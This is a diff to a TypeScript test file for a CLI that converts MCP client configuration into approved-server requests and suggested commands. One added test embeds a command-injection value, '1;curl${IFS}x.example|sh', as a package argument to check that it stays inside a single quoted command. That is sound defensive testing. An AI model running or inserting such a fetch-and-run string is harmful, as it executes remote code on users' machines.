@@ -1,5 +1,5 @@
 /** The servers of a client's file as those that are approved: what is asked for, what is left, and what to run for it. */
-import { expect, it } from 'vitest';
+import { describe, expect, it } from 'vitest';
 import type { Context } from '../../cli/command.ts';
 import { add } from '../../cli/commands/add.ts';
 import { clientFile, fromClient } from '../../cli/from-client.ts';
@@ -100,6 +100,39 @@ it('never says a secret of the file, nor takes two servers for one', () => {
     'lk publish npm:@acme/other --arg SECRET',
     'lk add NAME --alias OTHER',
   ]);
+});
+
+it('what it says to run is one command, whatever the file says', () => {
+  const shell = '1;curl${IFS}x.example|sh';
+  const { missing } = of({ a: { command: 'npx', args: [`left-pad@${shell}`] } }, DOCS);
+  expect(missing).toMatchObject([{ next: `lk publish 'npm:left-pad@${shell}'` }]);
+  const url = `https://x.example/mcp?api_key=${'a1b2c3'.repeat(5)}`;
+  expect(of({ a: { url } }).missing).toMatchObject([
+    { why: 'ADDRESS is not approved', next: 'lk publish ADDRESS --release 1.0.0' },
+  ]);
+});
+
+describe('a name that the project has already', () => {
+  const server = { command: 'npx', args: ['-y', '@acme/docs', './theirs'], env: { LANG: 'C', TOKEN: 'x' } };
+  const release = { ...DOCS, permissions: { ...DOCS.permissions, secrets: ['TOKEN'] } };
+  const ours = { mounts: { '/data': './ours' }, secrets: { TOKEN: 'file:./token' }, args: ['-v'] };
+  const beside = (before: object): ReturnType<typeof fromClient> =>
+    fromClient(entriesOf('.mcp.json', JSON.stringify({ mcpServers: { docs: server } })), [release], {
+      docs: before,
+    } as never);
+
+  it('of the same server keeps what was said of it', () => {
+    const { wishes } = beside({ server: 'npm.acme/docs', range: '^2.0.0', ...ours });
+    expect(wishes.map(({ request }) => request)).toEqual([
+      { server: 'npm.acme/docs', range: '^2.0.0', ...ours, env: ['LANG'] },
+    ]);
+  });
+
+  it('of another server stays with that one', () => {
+    const { wishes, missing } = beside({ server: 'npm.acme/notes', range: '*', ...ours });
+    expect(wishes).toEqual([]);
+    expect(missing).toMatchObject([{ alias: 'docs', next: 'lk add npm.acme/docs --alias OTHER' }]);
+  });
 });
 
 it.each([
